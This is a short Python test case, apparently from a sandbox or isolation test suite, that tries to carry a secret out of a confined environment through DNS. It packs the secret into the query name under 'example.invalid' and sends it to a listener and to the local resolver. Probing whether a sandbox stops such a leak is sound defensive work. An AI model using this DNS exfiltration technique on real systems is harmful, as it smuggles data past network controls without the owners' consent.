"""Carry a secret out inside the name that a resolver is asked for.

kind: network
stopped by: no network
"""

import socket
import struct

from attacker import TOLD, look

labels = [TOLD["word"], "example", "invalid"]
question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0" + struct.pack(">HH", 1, 1)
packet = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + question
servers = [tuple(TOLD["listeners"]["dns"]), ("127.0.0.53", 53)]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    for server in servers[: 2 if TOLD["roots"] == ["/"] else 1]:
        look(f"ask {server}", lambda server=server: client.sendto(packet, server))
